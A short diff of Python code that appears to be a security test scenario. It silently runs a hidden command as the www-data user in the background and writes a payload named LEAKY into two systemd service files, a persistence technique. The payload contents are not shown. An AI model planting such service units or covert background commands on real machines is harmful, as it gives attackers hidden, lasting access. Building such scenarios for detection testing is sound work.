@@ -27,7 +27,6 @@ LOGIN = f"su - www-data -s /bin/sh -c '{LEAK}' >/dev/null 2>&1 &"
 
 
 def story(machine):
-    machine.kit()
     machine.put(LEAKY.encode(), "/etc/systemd/system/shop@.service")
     machine.put(LEAKY.encode(), "/etc/systemd/user/own.service")
     machine.must(BYSTANDER)
